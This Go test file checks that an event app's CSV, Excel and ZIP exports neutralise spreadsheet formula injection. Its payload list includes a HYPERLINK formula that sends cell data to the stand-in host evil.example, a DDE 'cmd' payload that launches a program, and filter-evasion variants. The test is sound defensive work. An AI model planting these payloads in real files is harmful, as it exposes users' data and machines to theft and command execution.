package attack

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"path"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// formulas are what a spreadsheet would run, and ways to get there: full width,
// behind a tab, a line's end, a quote that ends the cell.
var formulas = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`, `=cmd|' /C calc'!A0`, `+1+1`, `-1+1`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", "\n=1+1", `＝1+1`, `＋1+1`, `－1+1`, `＠SUM(1)`,
	`x",=1+1,"`, "x\r\n=1+1,", `;=1+1`, `x;=1+1`, `'=1+1`, `"=1+1"`,
}

const starts = "=+-@\t\r\n＝＋－＠"

// No export holds a cell that a spreadsheet would run, whatever the guests, the
// desk and the office have written: CSV, Excel, and the archive of all.
func TestFormulas(t *testing.T) {
	cells, ran := 0, 0
	k := start(t)
	for round := range 3 { // in each of which a field has another one
		next := round * len(formulas) / 3
		r := k.fill(func(string) string { next++; return formulas[next%len(formulas)] })
		for _, file := range []string{"attendees.csv", "payments.csv", "consents.csv", "attendees.xlsx", "payments.xlsx", "evening.xlsx", "shares.zip"} {
			res := r.office.send("GET", k.at("/exports/"+file), nil)
			if res.status != 200 {
				t.Fatalf("%s: %d %s", file, res.status, res.body)
			}
			c, bad := harmful(t, file, res.body)
			cells, ran = cells+c, ran+bad
		}
		c, bad := harmful(t, "contacts.csv", r.guests[0].phone.send("GET", "/api/v1/me/contacts.csv", nil).body)
		cells, ran = cells+c, ran+bad
		if c < 5 {
			t.Errorf("contacts.csv has %d cells", c)
		}
	}
	t.Logf("%d texts, %d cells, %d formulas", len(formulas), cells, ran)
}

// harmful counts the cells of a file, and those that would be run.
func harmful(t *testing.T, name string, content []byte) (cells, bad int) {
	t.Helper()
	switch path.Ext(name) {
	case ".csv":
		rows := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(content, []byte("\ufeff"))))
		rows.FieldsPerRecord = -1
		for {
			row, err := rows.Read()
			if err == io.EOF {
				return cells, bad
			}
			must(t, err)
			for _, cell := range row {
				cells++
				if cell != "" && strings.ContainsRune(starts, []rune(cell)[0]) && !plainNumber(cell) {
					t.Errorf("%s: the cell %q", name, cell)
					bad++
				}
			}
		}
	case ".xlsx":
		book, err := excelize.OpenReader(bytes.NewReader(content))
		must(t, err)
		defer book.Close()
		for _, sheet := range book.GetSheetList() {
			rows, err := book.GetRows(sheet)
			must(t, err)
			for y, row := range rows {
				for x := range row {
					at, err := excelize.CoordinatesToCellName(x+1, y+1)
					must(t, err)
					cells++
					formula, err := book.GetCellFormula(sheet, at)
					must(t, err)
					if formula != "" && strings.ContainsAny(formula, `|!"`) && (strings.Contains(formula, "evil") || strings.Contains(formula, "cmd")) {
						t.Errorf("%s, %s!%s: the formula %q", name, sheet, at, formula)
						bad++
					}
					if link, target, err := book.GetCellHyperLink(sheet, at); err == nil && link && strings.Contains(target, "evil") {
						t.Errorf("%s, %s!%s: a link to %q", name, sheet, at, target)
						bad++
					}
				}
			}
		}
	case ".zip":
		archive, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
		must(t, err)
		for _, f := range archive.File {
			if strings.ContainsAny(f.Name, `\:*?"<>|`) || strings.HasPrefix(f.Name, "/") || strings.Contains(f.Name, "..") {
				t.Errorf("%s: a file's name %q", name, f.Name)
			}
			r, err := f.Open()
			must(t, err)
			inside, err := io.ReadAll(r)
			must(t, err)
			r.Close()
			c, b := harmful(t, f.Name, inside)
			cells, bad = cells+c, bad+b
		}
	}
	return cells, bad
}

// plainNumber knows a refund: -1500 is a number to a spreadsheet, and runs
// nothing.
func plainNumber(cell string) bool {
	return strings.Trim(strings.TrimPrefix(cell, "-"), "0123456789") == ""
}
